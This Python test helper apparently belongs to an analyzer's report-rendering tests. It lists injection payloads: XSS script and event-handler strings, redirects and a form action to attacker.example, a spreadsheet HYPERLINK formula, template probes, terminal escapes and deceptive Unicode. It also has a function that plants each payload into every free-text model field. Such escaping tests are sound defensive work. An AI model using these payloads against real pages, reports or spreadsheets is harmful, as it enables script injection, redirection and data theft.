"""Strings nobody may put into a report's way, and a way to put each of them everywhere at once."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import fields, is_dataclass
from enum import Enum
from typing import Any, get_args, get_type_hints

from analyzer import model

#: (name, what a hostname, HTTP title, event name, log line or file name may hold)
PAYLOADS: tuple[tuple[str, str], ...] = (
    ("script element", "<script>alert(1)</script>"),
    ("image handler", '"><img src=x onerror=alert(1)>'),
    ("svg handler", "'><svg/onload=alert(1)>"),
    ("attribute break", '" onmouseover=alert(1) autofocus onfocus=alert(1) x="'),
    ("end of style", "</style><script>alert(1)</script>"),
    ("end of script", "</script><script>alert(1)</script>"),
    ("end of title", "</title><script>alert(1)</script>"),
    ("comment", "--><script>alert(1)</script><!--"),
    ("cdata", "]]><script>alert(1)</script><![CDATA["),
    ("entity", "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;b&#x3e;"),
    ("link", '<a href="javascript:alert(1)">go</a><iframe src=javascript:alert(1)>'),
    ("refresh", '<meta http-equiv=refresh content="0;url=http://attacker.example/">'),
    ("base", '<base href="http://attacker.example/"><link rel=stylesheet href=//attacker.example/x.css>'),
    ("form", '<form action="http://attacker.example/"><input name=x autofocus></form>'),
    ("css", "} body { display: none } @import url(http://attacker.example/x.css); .x {"),
    ("template", "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}"),
    ("terminal", "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b31m"),
    ("carriage return", "shown\rhidden\nnext\x0b\x0c\x85line\u2028para\u2029"),
    ("bidirectional", "safe\u202egnp.exe\u2066x\u2069\u200f\u061c"),
    ("zero width", "pay\u200bpal\u2060\ufeff\u00ad"),
    ("null and surrogate", "a\x00b\ud800c\U000e0041\ufff9"),
    ("formula", '=HYPERLINK("http://attacker.example/","x")'),
    ("markdown", "[x](javascript:alert(1)) ![x](http://attacker.example/x.png) `code` | cell | # head"),
    ("long", "A" * 20_000),
    ("backtick", "`<script>alert(1)</script>`"),
)


def planted(value: Any, payload: str, hint: Any = None) -> Any:
    """``value`` with ``payload`` in every string that is free text; enumerations and fixed words stay."""
    if isinstance(value, Enum):
        return value
    if isinstance(value, str):
        return value if "Literal" in str(hint) else payload
    if isinstance(value, tuple):
        inner = get_args(hint)[0] if get_args(hint) else None
        return tuple(planted(item, payload, inner) for item in value)
    if isinstance(value, Mapping):
        values = [planted(item, payload) if isinstance(item, str | tuple) else item for item in value.values()]
        # One name for all would hide the rest: the names are the payload and the payload with a number.
        return {payload + (str(place) if place else ""): item for place, item in enumerate(values)}
    if is_dataclass(value) and not isinstance(value, type):
        hints = get_type_hints(type(value), vars(model))
        return type(value)(
            **{field.name: planted(getattr(value, field.name), payload, hints[field.name]) for field in fields(value)}
        )
    return value
